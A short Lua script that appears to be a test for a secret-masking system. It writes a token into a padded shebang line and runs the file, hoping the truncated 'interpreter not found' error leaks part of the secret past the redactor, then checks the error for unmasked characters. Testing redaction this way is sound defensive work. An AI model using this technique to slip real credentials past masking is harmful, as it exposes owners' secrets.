-- idea: the error of a script without its interpreter cuts the name, so that the masker does not know the rest of a value
-- out: nothing
local t, found = getSecret("TOKEN"), "nothing"
for pad = 150, 250, 4 do
  spawn{ "sh", "-c", 'printf "#!/%s%s\\n" "$1" "$T" > odd; chmod +x odd', "sh", ("a"):rep(pad), env = { T = t } }
  local ok, e = pcall(spawn, { "./odd" })
  if tostring(e):gsub("%[secret:[^%]]*%]", ""):find("aa[^a%s][^%s]+") then found = tostring(e) end
end
print(found)
fs.remove("odd")
